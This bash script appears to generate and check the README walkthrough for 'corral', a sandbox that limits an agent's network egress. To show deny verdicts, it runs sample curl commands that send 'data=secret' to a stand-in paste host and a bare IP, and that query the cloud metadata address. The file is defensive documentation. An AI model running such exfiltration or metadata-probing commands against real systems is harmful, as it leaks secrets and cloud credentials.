#!/bin/bash
# The README's tour: runs its commands for real and writes what they print between its marks, or says that it has changed.
#   tour.sh write | check [README]
# `check` looks past ids, times, numbers of processes and hashes. `N passed, N failed, N skipped` is its last line.
set -uo pipefail
cd "$(dirname "$0")/../.."
. Tests/docs/setting.sh
what=${1:-check} readme=$PWD/${2:-README.md}
setting_up
cat >agent.yaml <<'YAML'
apiVersion: corral/v1
name: agent
egress:
  allow:
    - domain: api.example.com
      ports: [80, 443]
  limits: { bytes: 10MiB, connections: 100 }
limits: { memory: 256MiB, pids: 64, timeout: 5m }
YAML
for ((i = 0; i < 50; i++)); do
    corral run -q --policy agent.yaml -- curl -s -m 2 http://api.example.com/ >/dev/null 2>&1 && break
    sleep 0.1
done

shown() { # COMMAND: as a reader would type it
    echo "\$ $1"
    bash -c "$1" 2>&1
    echo
}
{
    shown "cat agent.yaml"
    shown "corral run --policy agent.yaml -- curl -sS http://api.example.com/"
    since=$(date -u +%Y-%m-%dT%H:%M:%SZ)
    shown "corral run --name a1 --policy agent.yaml -- curl -sS http://paste.example.net/?data=secret"
    shown "corral run --name a2 --policy agent.yaml -- curl -sS http://198.51.100.66/?data=secret"
    shown "corral run --name a3 --policy agent.yaml -- curl -sS http://169.254.169.254/latest/meta-data/"
    sleep 0.3
    echo "\$ corral tail --since 1m --no-follow --verdict deny"
    corral tail --since "$since" --no-follow --verdict deny --color never 2>&1 | awk '{ print } END { print "" }'
    shown "corral policy explain agent.yaml api.example.com:443"
    echo "\$ corral audit verify"
    corral audit verify "$LAB_DIR/state/audit" 2>&1 | head -1 | sed "s#$LAB_DIR/state#/var/lib/corral/default#"
} >tour
sed -i 's/[ \t]*$//' tour

begin='<!-- The tour: written by `make docs`. -->' end='<!-- End of the tour. -->'
if [ "$what" = write ]; then
    { sed "/^$begin\$/q" "$readme"; echo '```console'; cat tour; echo '```'; sed -n "/^$end\$/,\$p" "$readme"; } >readme.new
    cat readme.new >"$readme"
    exit 0
fi
# What differs between two runs.
plain() {
    sed -E 's/sb-[0-9a-z]+/sb-ID/g; s/[0-9]{4}-[0-9]{2}-[0-9]{2}T//g; s/[0-9]{2}:[0-9]{2}:[0-9]{2}(\.[0-9]+)?Z?/TIME/g
        s/\b[0-9a-f]{64}\b/HASH/g; s/(pid|curl|process)([ =[(]+)[0-9]+/\1\2N/g; s/[0-9]+ (lines|ms|s)\b/N \1/g; s/records? [0-9]+( to [0-9]+)?/records N/g; s/ ×[0-9]+//; s/^(corral: )[0-9]+ attempts? w[a-z]+ refused/\1N refused/; s/ +/ /g' |
        sort -u # a resolver that is refused asks again, A and AAAA in either order
}
sed -n "/^$begin\$/,/^$end\$/p" "$readme" | sed '1,2d' | sed '$d' | sed '$d' | plain >old
plain <tour >new
if diff old new; then echo "1 passed, 0 failed, 0 skipped"; else
    echo "FAIL  the README's tour is stale: make docs"
    echo "0 passed, 1 failed, 0 skipped"
    exit 1
fi
